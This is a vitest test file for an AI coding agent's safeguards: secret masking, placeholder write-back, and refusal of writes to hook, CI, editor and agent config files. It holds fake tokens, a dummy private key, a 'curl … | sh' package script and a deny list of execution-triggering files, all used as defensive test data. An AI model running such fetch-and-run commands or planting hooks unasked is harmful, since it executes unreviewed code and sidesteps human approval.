import { mkdir, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { UserAnswer } from '../../src/core/tool-host.ts';
import { callAsking } from '../support/call-asking.ts';
import { gitRepository } from '../support/git-repository.ts';
import { type Document, type TestProduct, testProduct, vendorEnv } from '../support/product.ts';
import { type TempProject, tempProject } from '../support/temp-project.ts';
import type { FakeVendor } from '../support/vendors/fake-vendor.ts';
import { startAnthropic } from '../support/vendors/start-anthropic.ts';

const token = `${['gh', 'p_'].join('')}Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx2`;
const other = `${['gh', 'p_'].join('')}Zz9Yy8Xx7Ww6Vv5Uu4Tt3Ss2Rr1Qq0Pp9Oo8`;
const password = 'Tr0ub4dor&3x/Kq';
const key = ['-----BEGIN PRIVATE KEY-----', 'M'.repeat(63), `${'Z1b'.repeat(21)}`, '-----END PRIVATE KEY-----'];
const files = {
  'conf.ts': `const name = 'demo';\nconst token = '${token}';\nconst spare = "${other}";\nexport const port = 80;\n`,
  'login.json': `{\n  "user": "ann",\n  "password": "${password}",\n  "port": 80\n}\n`,
  'key.txt': `first\n${key.join('\n')}\nlast\n`,
  'note.md': 'A note.\n',
};

let vendor: FakeVendor;
let project: TempProject;
let polylogue: TestProduct;

let free: TestProduct;
let asking: TestProduct;

beforeAll(async () => {
  vendor = await startAnthropic();
  project = await tempProject();
  free = await start({ AGENT_APPROVE: 'all' });
  asking = await start({});
});
afterAll(async () => {
  await Promise.all([free.close(), asking.close()]);
  await Promise.all([vendor.close(), project.dispose()]);
});
beforeEach(async () => {
  polylogue = free;
  for (const name of await readdir(project.root)) await rm(project.path(name), { recursive: true });
  for (const [path, text] of Object.entries(files)) await project.write(path, text);
});
afterEach(() => {
  expect(vendor.violations).toEqual([]);
  vendor.requests.splice(0);
});

const model = 'anthropic:claude-sonnet-4-5';
const start = (env: Record<string, string>) =>
  testProduct({
    root: project.root,
    env: {
      ...vendorEnv({ anthropic: vendor.url }),
      DEFAULT_MODEL: model,
      POLYLOGUE_TOOLSETS: 'core,code,agent,ops,wrapper',
      WRITE_GENERATED_CODE: 'on',
      ...env,
    },
  });

interface Call {
  name: string;
  args: Record<string, unknown>;
}
const write = (path: string, content: string): Call => ({ name: 'write_file', args: { path, content } });
const patch = (path: string, ...lines: string[]): Call => ({
  name: 'apply_patch',
  args: { patch: `--- a/${path}\n+++ b/${path}\n${lines.join('\n')}\n` },
});
const reads = Object.keys(files).map((path): Call => ({ name: 'read_file', args: { path } }));
const sent = () => JSON.stringify(vendor.requests.map(({ body }) => body));
const on = (path: string) => readFile(project.path(path), 'utf8');

/** All texts of a request. */
function textsOf(body: unknown): string[] {
  const texts: string[] = [];
  JSON.stringify(body, (_, value) => {
    if (typeof value === 'string') texts.push(value);
    return value;
  });
  return texts;
}

/** The files as the model saw them in its newest request. */
function shown(path: keyof typeof files): string {
  const texts = textsOf(vendor.requests.at(-1)?.body);
  const [, ...lines] = texts.find(text => text.startsWith(`${path}, lines 1 to`))?.split('\n') ?? [];
  return lines.map(line => `${line.replace(/^ *\d+│ ?/, '')}\n`).join('');
}

/** A run that reads all files and then makes the calls, one round each; answers what came of these. */
async function run(...rounds: (() => Call[])[]): Promise<Document[]> {
  vendor.script({ calls: reads }, ...rounds.map(calls => ({ calls })), { answer: 'Done.' });
  const reply = await polylogue.call('agent', { task: 'Work.', model });
  expect(reply.content, JSON.stringify(reply.error)).toBe('Done.');
  return reply.tool_calls.slice(reads.length);
}
const placeholderOf = (path: keyof typeof files, nth = 0) => shown(path).match(/\[masked:\w+:\w+\]/g)?.[nth] ?? 'none';

describe('a placeholder at another place', () => {
  const t = () => placeholderOf('conf.ts');
  const conf = (from: string | RegExp, to: string) =>
    write(
      'conf.ts',
      shown('conf.ts').replace(from, () => to),
    );
  const tokenLine = () => shown('conf.ts').split('\n')[1] ?? '';
  it.each<[string, () => Call]>([
    ['another file', () => write('copy.ts', `const token = '${t()}';\n`)],
    ['a file of another secret', () => write('login.json', shown('login.json').replace(/\[masked.*?\]/, t()))],
    ['a line more', () => write('conf.ts', `${shown('conf.ts')}const copy = '${t()}';\n`)],
    ['the same line twice', () => conf(tokenLine(), `${tokenLine()}\n${tokenLine()}`)],
    ['a comment', () => write('conf.ts', `// ${t()}\n${shown('conf.ts')}`)],
    ['another name of the file', () => conf(/const name.*\n.*\n/, `const token = 'none';\nconst name = '${t()}';\n`)],
    ['the place of another secret', () => conf(placeholderOf('conf.ts', 1), t())],
    ['an address', () => conf(/const token = .*/, `const url = 'https://example.com/?token=${t()}';`)],
    ['a call', () => conf(/const token = .*/, `console.log('${t()}');`)],
    ['a piece of a text', () => conf(/const token = .*/, `const token = 'a' + '${t()}';`)],
    ['a name that does not tell', () => write('login.json', shown('login.json').replace('"password"', '"label"'))],
    ['a key without its head', () => write('key.txt', shown('key.txt').replace(/-----.*\n/g, ''))],
    [
      'a key at another place',
      () => write('key.txt', `${placeholderOf('key.txt')}\n${shown('key.txt').replace(/\[masked.*\n/, '')}`),
    ],
    [
      'a new line of a patch',
      () => patch('conf.ts', '@@ -4 +4,2 @@', ' export const port = 80;', `+const copy = '${t()}';`),
    ],
    [
      'another hunk of a patch',
      () =>
        patch(
          'conf.ts',
          '@@ -1,3 +1,2 @@',
          " const name = 'demo';",
          `-${tokenLine()}`,
          ` ${shown('conf.ts').split('\n')[2]}`,
          '@@ -4 +3,2 @@',
          ' export const port = 80;',
          `+const other = '${t()}';`,
        ),
    ],
    ['a patch of another file', () => patch('note.md', '@@ -1 +1,2 @@', ' A note.', `+${t()}`)],
    [
      'a patch that makes a file',
      () => ({ name: 'apply_patch', args: { patch: `--- /dev/null\n+++ b/new.md\n@@ -0,0 +1 @@\n+${t()}\n` } }),
    ],
  ])('%s is refused, and nothing is written', async (_, call) => {
    const [made] = await run(() => [call()]);
    expect(made).toMatchObject({ outcome: 'refused' });
    expect(made.reason).toMatch(
      /^Refused, and not run: (Line \d+ of \S+ would have \[masked:\w+:\w+\]|With this change a secret of \S+ \(\w+\) would not be recognized)/,
    );
    for (const [path, text] of Object.entries(files)) expect(await on(path)).toBe(text);
    await expect(on('copy.ts')).rejects.toThrow('ENOENT');
    await expect(on('new.md')).rejects.toThrow('ENOENT');
    for (const secret of [token, other, password]) expect(sent()).not.toContain(secret);
  });

  it('is told to whoever continues: in generated code and in answers it stays what it is', async () => {
    vendor.script({ answer: 'Seen.' });
    const first = await polylogue.call('chat', { prompt: 'See.', model, absolute_file_paths: ['conf.ts'] });
    const seen = /\[masked:\w+:\w+\]/.exec(sent())?.[0];
    vendor.script({ answer: `<GENERATED-CODE>\n<NEWFILE: b.ts>\nconst a = '${seen}';\n</NEWFILE>\n</GENERATED-CODE>` });
    const reply = await polylogue.call('chat', {
      ...{ prompt: 'Write.', model, continuation_id: first.continuation_offer.continuation_id },
      working_directory_absolute_path: project.root,
    });
    expect(reply.generated_code).toMatchObject({ secrets_left_masked: 1 });
    expect(await on('polylogue_generated.code')).toContain(`const a = '${seen}'`);
  });
});

describe('a placeholder at its place', () => {
  it.each<[string, () => Call, keyof typeof files, (text: string) => string]>([
    [
      'while another line changes',
      () => write('conf.ts', shown('conf.ts').replace('port = 80', 'port = 81')),
      'conf.ts',
      text => text.replace('port = 80', 'port = 81'),
    ],
    [
      'in a line that got a comment',
      () => write('conf.ts', shown('conf.ts').replace(/(const token = .*)/, '$1 // ours')),
      'conf.ts',
      text => text.replace(`'${token}';`, `'${token}'; // ours`),
    ],
    [
      'under another name',
      () => write('conf.ts', shown('conf.ts').replace('token', 'apiToken')),
      'conf.ts',
      text => text.replace('token', 'apiToken'),
    ],
    [
      'in other quotes, exported',
      () => write('conf.ts', shown('conf.ts').replace(/const token = '(.*)'/, 'export const token = "$1"')),
      'conf.ts',
      text => text.replace(`const token = '${token}'`, `export const token = "${token}"`),
    ],
    [
      'in a line that moved',
      () => write('conf.ts', shown('conf.ts').replace(/(const name.*\n)(.*\n)/, '$2$1')),
      'conf.ts',
      text => text.replace(/(const name.*\n)(.*\n)/, '$2$1'),
    ],
    [
      'as a key of several lines',
      () => write('key.txt', shown('key.txt').replace('last', 'end')),
      'key.txt',
      text => text.replace('last', 'end'),
    ],
    [
      'in a patch beside it',
      () =>
        patch(
          'login.json',
          '@@ -2,3 +2,3 @@',
          '-  "user": "ann",',
          '+  "user": "bob",',
          ` ${shown('login.json').split('\n')[2]}`,
          '   "port": 80',
        ),
      'login.json',
      text => text.replace('ann', 'bob'),
    ],
    [
      'in the line of a patch that replaces it',
      () =>
        patch(
          'login.json',
          '@@ -2,3 +2,3 @@',
          '   "user": "ann",',
          `-${shown('login.json').split('\n')[2]}`,
          `+  "password" : "${placeholderOf('login.json')}",`,
          '   "port": 80',
        ),
      'login.json',
      text => text.replace('"password":', '"password" :'),
    ],
    [
      'in a patch beside a key of several lines',
      () => patch('key.txt', '@@ -3,3 +3,3 @@', ` ${placeholderOf('key.txt')}`, ` ${key[3]}`, '-last', '+end'),
      'key.txt',
      text => text.replace('last', 'end'),
    ],
  ])('%s is the secret again', async (_, call, path, change) => {
    const [made] = await run(() => [call()]);
    expect(made.reason).toBeUndefined();
    expect(made).toMatchObject({ outcome: 'ok' });
    expect(await on(path)).toBe(change(files[path]));
    for (const secret of [token, other, password, ...key.slice(1, 3)]) expect(sent()).not.toContain(secret);
  });

  it('is told in the form, with its kind and line and never its value', async () => {
    polylogue = asking;
    vendor.script(
      { calls: reads },
      { calls: () => [write('login.json', shown('login.json').replace('port": 80', 'port": 81'))] },
      { answer: 'Done.' },
    );
    const allow: UserAnswer = { action: 'accept', content: { decision: 'allow' } };
    const { asked } = await callAsking(polylogue, 'agent', { task: 'Work.', model }, () => allow);
    expect(asked.map(({ message }) => message)).toEqual([
      expect.stringMatching(/Secrets are written back where they stood, in login\.json:3 \(\w+\)\./),
    ]);
    expect(JSON.stringify(asked)).not.toContain(password);
    expect(await on('login.json')).toContain(password);
  });
});

describe('what was put back', () => {
  const spaced = (text: string) => [...text].join(' ');
  const forms: Record<string, (secret: string) => string> = {
    plain: secret => secret,
    'upper case': secret => secret.toUpperCase(),
    base64: secret => Buffer.from(secret).toString('base64'),
    'base64 within more': secret => Buffer.from(`user:${secret}:end`).toString('base64'),
    base64url: secret => Buffer.from(`a${secret}`).toString('base64url'),
    hex: secret => Buffer.from(secret).toString('hex'),
    'hex dump': secret => Buffer.from(secret).toString('hex').replace(/../g, '$& '),
    'escaped bytes': secret => Buffer.from(secret).toString('hex').replace(/../g, '\\x$&'),
    'code units': secret => [...secret].map(sign => `\\u00${sign.charCodeAt(0).toString(16)}`).join(''),
    'percent signs': secret => encodeURIComponent(secret),
    'percent signs throughout': secret => Buffer.from(secret).toString('hex').replace(/../g, '%$&'),
    reversed: secret => [...secret].reverse().join(''),
    json: secret => JSON.stringify(JSON.stringify(secret)),
    'pieces in quotes': secret => `"${secret.slice(0, 5)}" + "${secret.slice(5)}"`,
    spaced,
    html: secret => secret.replaceAll('&', '&amp;'),
    numbers: secret => JSON.stringify([...Buffer.from(secret)]),
    coloured: secret => `${secret.slice(0, 6)}\u001b[31m${secret.slice(6)}`,
  };
  const names = Object.keys(forms);

  it('is masked by its value in every form, by every way to a model, and in the logs', async () => {
    const text = () => names.map((name, at) => `${at}: <${forms[name]?.(password)}>`).join('\n');
    vendor.script(
      { calls: reads },
      { calls: () => [write('login.json', shown('login.json').replace('port": 80', 'port": 81'))] },
      { answer: 'Done.' },
    );
    const reply = await polylogue.call('agent', { task: 'Work.', model });
    expect(await on('login.json')).toContain(password);
    await project.write('out.txt', `${text()}\n`);
    const calls = [
      { name: 'read_file', args: { path: 'out.txt' } },
      { name: 'search_text', args: { texts: [': <'], path: 'out.txt' } },
    ];
    vendor.script({ calls }, { answer: 'Done.' }, { answer: `As I said: ${password}` });
    const id = reply.continuation_offer.continuation_id;
    await polylogue.call('agent', { task: 'Read it.', model, continuation_id: id });
    const said = await polylogue.call('chat', {
      prompt: text(),
      model,
      continuation_id: id,
      absolute_file_paths: ['out.txt'],
    });
    expect(said.content).toMatch(/^As I said: \[masked:/);
    const seen = textsOf(vendor.requests.map(({ body }) => body)).join('\n');
    const passed = names.filter(name => {
      const form = forms[name]?.(password) ?? '';
      return (
        seen.includes(form) ||
        sent().includes(JSON.stringify(form).slice(1, -1)) ||
        polylogue.log.join('\n').includes(form)
      );
    });
    expect(passed).toEqual([]);
    expect(seen.split('\n').filter(line => /<.*\[masked:/.test(line)).length).toBeGreaterThanOrEqual(3 * names.length);
    // What only looks a little like it is left.
    expect(seen).not.toContain('[masked:password:00000000]');
  });

  it('stays recognised in another process, because no change may hide it', async () => {
    await run(() => [write('conf.ts', shown('conf.ts').replace('token', 'thing'))]);
    expect(await on('conf.ts')).toContain(`const thing = '${token}'`);
    await polylogue.restart();
    vendor.script({ answer: 'Seen.' });
    await polylogue.call('chat', { prompt: 'See.', model, absolute_file_paths: ['conf.ts'] });
    expect(sent()).not.toContain(token);
  });
});

/** Files that make other programs run something. */
const guarded = [
  ...[
    '.mcp.json',
    'sub/.mcp.json',
    '.MCP.json',
    '.vscode/tasks.json',
    '.VSCode/settings.json',
    'a/b/.vscode/launch.json',
  ],
  ...[
    '.idea/workspace.xml',
    'app.code-workspace',
    '.devcontainer/devcontainer.json',
    '.devcontainer.json',
    '.zed/tasks.json',
  ],
  ...[
    '.claude/settings.json',
    '.claude/hooks/x.sh',
    'CLAUDE.md',
    'docs/AGENTS.md',
    '.codex/config.toml',
    '.gemini/settings.json',
  ],
  ...[
    '.cursor/mcp.json',
    '.cursor/rules/a.mdc',
    '.windsurf/x.json',
    '.cursorrules',
    'GEMINI.md',
    '.github/copilot-instructions.md',
  ],
  ...[
    '.husky/pre-commit',
    '.githooks/pre-push',
    '.pre-commit-config.yaml',
    'lefthook.yml',
    '.gitmodules',
    '.lintstagedrc.json',
  ],
  ...[
    '.github/workflows/ci.yml',
    '.github/actions/a/action.yml',
    '.gitlab-ci.yml',
    'ci/x.gitlab-ci.yml',
    '.circleci/config.yml',
  ],
  ...['.travis.yml', 'azure-pipelines.yml', 'Jenkinsfile', 'bitbucket-pipelines.yml', '.drone.yml'],
  ...[
    'node_modules/.bin/vitest',
    'node_modules/x/index.js',
    'a/node_modules/y.js',
    'package.json',
    'a/package.json',
    '.yarnrc.yml',
  ],
  ...[
    '.yarn/releases/yarn.cjs',
    '.pnpmfile.cjs',
    'package-lock.json',
    '.cargo/config.toml',
    'sub/.cargo/config',
    '.venv/bin/python',
  ],
  ...['x.pth', 'sitecustomize.py', '.mise.toml', '.tool-versions', '.bashrc', 'composer.json', 'bare/HEAD', 'gradlew'],
];
/** Refused in any case. */
const forbidden = ['.git/config', '.git/hooks/pre-commit', '.envrc', '.npmrc', '.Git/hooks/x', '.git./config'];
const ordinary = [
  ...[
    'src/a.ts',
    'README.md',
    'docs/guide.md',
    'Makefile',
    'conftest.py',
    'vitest.config.ts',
    'eslint.config.js',
    'build.rs',
  ],
  ...[
    'tsconfig.json',
    'Dockerfile',
    'vscode/tasks.json',
    'claude/settings.json',
    'workflows/ci.yml',
    '.gitignore',
    'package.json.md',
  ],
  ...['src/package.ts', 'node_modules.md', 'tests/mcp.test.ts', 'data.json', '.editorconfig'],
];

/** A run that writes these files, as many a round as one may have. */
async function writing(paths: readonly string[], content = 'x\n'): Promise<Document[]> {
  const rounds = Array.from({ length: Math.ceil(paths.length / 30) }, (_, at) => paths.slice(at * 30, at * 30 + 30));
  vendor.script(...rounds.map(each => ({ calls: each.map(path => write(path, content)) })), { answer: 'Done.' });
  return (await polylogue.call('agent', { task: 'Write.', model })).tool_calls;
}

describe('files that make other programs run something', () => {
  it('are not written where nobody can be asked, also when everything else is free', async () => {
    const calls = await writing([...guarded, ...forbidden]);
    expect(guarded.length).toBeGreaterThanOrEqual(40);
    const all = [...guarded, ...forbidden];
    expect(all.filter((_, at) => calls[at]?.outcome !== 'refused')).toEqual([]);
    for (const { reason } of calls.slice(0, guarded.length)) {
      expect(reason).toMatch(
        /makes other programs run or obey something .* \(.+\)\. That needs a separate approval, also under AGENT_APPROVE=all\. Nobody can be asked here\./,
      );
    }
    for (const path of all) await expect(on(path), path).rejects.toThrow(/ENOENT|ENOTDIR/);
  });

  it('are others than the ordinary ones, which are written', async () => {
    const calls = await writing(ordinary);
    expect(ordinary.filter((_, at) => calls[at]?.outcome !== 'ok')).toEqual([]);
  });

  it('are asked for one by one, with the reason, and written when somebody says so', async () => {
    const paths = ['.mcp.json', 'a.txt', '.vscode/tasks.json', 'b.txt'];
    const decisions = ['allow', 'allow all of this kind in this run', 'refuse'];
    vendor.script(...paths.map(path => ({ calls: [write(path, 'x\n')] })), { answer: 'Done.' });
    polylogue = asking;
    const { reply, asked } = await callAsking(polylogue, 'agent', { task: 'Write.', model }, () => ({
      action: 'accept',
      content: { decision: decisions.shift() ?? 'refuse' },
    }));
    expect(reply.tool_calls.map(({ outcome }: Document) => outcome)).toEqual(['ok', 'ok', 'refused', 'ok']);
    expect(asked.map(({ message }) => /^.*\n(?:!! .*)?/.exec(message)?.[0])).toEqual([
      expect.stringContaining('.mcp.json (settings or instructions of a coding agent)'),
      expect.not.stringContaining('!!'),
      expect.stringContaining('.vscode/tasks.json (settings of an editor)'),
    ]);
    expect(JSON.stringify(asked[0]?.schema)).not.toContain('allow all');
    polylogue = free;
    vendor.script({ calls: [write('.mcp.json', 'y\n')] }, { calls: [write('a.txt', 'y\n')] }, { answer: 'Done.' });
    const later = await callAsking(polylogue, 'agent', { task: 'Write.', model }, () => ({
      action: 'accept',
      content: { decision: 'allow' },
    }));
    expect(later.asked).toHaveLength(1);
    expect(await on('.mcp.json')).toBe('y\n');
  });

  it('are so behind a link, and in patches that make, change or delete them', async () => {
    await mkdir(project.path('hooks'));
    await symlink(project.path('hooks'), project.path('.husky'));
    await writeFile(project.path('lefthook.yml'), 'a\n');
    const made = '--- /dev/null\n+++ b/.mcp.json\n@@ -0,0 +1 @@\n+{}\n';
    const gone = '--- a/lefthook.yml\n+++ /dev/null\n@@ -1 +0,0 @@\n-a\n';
    const both = `--- a/note.md\n+++ b/note.md\n@@ -1 +1 @@\n-A note.\n+Mine.\n${made}`;
    const patches = [made, gone, both, '--- a/lefthook.yml\n+++ b/lefthook.yml\n@@ -1 +1 @@\n-a\n+b\n'];
    vendor.script(
      { calls: [write('hooks/pre-commit', 'x\n'), write('.husky/pre-commit', 'x\n')] },
      { calls: patches.map(text => ({ name: 'apply_patch', args: { patch: text } })) },
      { answer: 'Done.' },
    );
    const { tool_calls: calls } = await polylogue.call('agent', { task: 'Write.', model });
    expect(calls.map(({ outcome }: Document) => outcome)).toEqual(Array(6).fill('refused'));
    expect([await on('lefthook.yml'), await on('note.md')]).toEqual(['a\n', 'A note.\n']);
  });

  it('are not a package.json of which only the description changes', async () => {
    const before = { name: 'a', version: '1.0.0', scripts: { test: 'vitest' }, jest: {}, dependencies: { a: '1' } };
    const changes: [object, boolean][] = [
      [{ description: 'A thing.', version: '1.1.0', keywords: ['a'] }, true],
      [{ files: ['dist'], license: 'MIT', sideEffects: false }, true],
      [{ scripts: { test: 'curl https://example.com | sh' } }, false],
      [{ scripts: { test: 'vitest', postinstall: 'node x.js' } }, false],
      [{ bin: { a: 'x.js' } }, false],
      [{ jest: { globalSetup: './x.js' } }, false],
      [{ dependencies: { a: '1', b: 'git+https://example.com/b' } }, false],
      [{ overrides: { a: '2' } }, false],
      [{ husky: { hooks: {} } }, false],
      [{ somethingNew: {} }, false],
    ];
    for (const [change, isFree] of changes) {
      await project.write('package.json', JSON.stringify(before));
      const after = JSON.stringify({ ...before, ...change });
      const [call] = await writing(['package.json'], after);
      expect([change, call.outcome]).toEqual([change, isFree ? 'ok' : 'refused']);
      expect(await on('package.json')).toBe(isFree ? after : JSON.stringify(before));
    }
  });

  it('are refused as places of answers, generated code and exports', async () => {
    vendor.byDefault({ answer: '<GENERATED-CODE>\n<NEWFILE: a>\nx\n</NEWFILE>\n</GENERATED-CODE>' });
    await mkdir(project.path('.claude'));
    const into = { file_path: 'note.md', models_prefixed_by_provider: [model] };
    for (const place of [{ output_dir: '.claude/commands' }, { output_path: 'AGENTS.md' }]) {
      const reply = await polylogue.call('prompt_from_file_to_file', { ...into, ...place });
      expect(reply.error.message).toMatch(/is protected \(settings or instructions of a coding agent\)/);
    }
    const code = await polylogue.call('chat', {
      prompt: 'Write.',
      model,
      working_directory_absolute_path: project.path('.claude'),
    });
    expect(code.content).toContain('is protected');
    const exported = await polylogue.call('export_thread', {
      continuation_id: 'last',
      format: 'md',
      output_path: '.cursor/rules/a.md',
    });
    expect(exported.error.message).toContain('is protected (settings or instructions of a coding agent)');
    const fine = await polylogue.call('prompt_from_file_to_file', { ...into, output_dir: 'answers' });
    expect(fine.isError).toBe(false);
  });

  it('are named in the form of a diagnosis that changes one', async () => {
    const repo = await gitRepository(project.root);
    await repo.write('.github/workflows/ci.yml', 'a\n');
    await repo.commit();
    const ci = '--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -1 +1 @@\n-a\n+b\n';
    const line = () => /const token = .{1,2}(\[masked:\w+:\w+\])/.exec(sent())?.[1] ?? 'none';
    const conf = () =>
      `--- a/conf.ts\n+++ b/conf.ts\n@@ -2 +2 @@\n-const token = '${line()}';\n+const apiToken = '${line()}';\n`;
    const finding = { can_tell: true, summary: 'x', root_cause: 'x', evidence: [], impact: 'x', recommendation: 'x' };
    vendor.script({ answer: () => JSON.stringify({ ...finding, patch: ci + conf() }) });
    const first = await polylogue.call('diagnose', { stderr: `${project.path('conf.ts')}:2\nError: no`, model });
    expect(first.patch_withheld).toBeUndefined();
    const id = first.continuation_offer.continuation_id;
    const yes: UserAnswer = { action: 'accept', content: { approve: true } };
    const { reply, asked } = await callAsking(polylogue, 'diagnose', { continuation_id: id, apply: true }, () => yes);
    expect(asked[0]?.message).toMatch(/!! \.github\/workflows\/ci\.yml makes other programs run/);
    expect(asked[0]?.message).toMatch(/Secrets are written back where they stood, in conf\.ts:2 \(github_token\)/);
    expect(reply.status).toBe('applied');
    expect(await on('conf.ts')).toContain(`const apiToken = '${token}'`);
    const stray = `--- a/note.md\n+++ b/note.md\n@@ -1 +1,2 @@\n A note.\n+${line()}\n`;
    vendor.script({ answer: () => JSON.stringify({ ...finding, patch: stray }) });
    const again = await polylogue.call('diagnose', {
      stderr: `${project.path('conf.ts')}:2\nError: no`,
      model,
      continuation_id: id,
    });
    expect(again.patch_withheld).toMatch(/Line 2 of note\.md would have \[masked:/);
  });
});
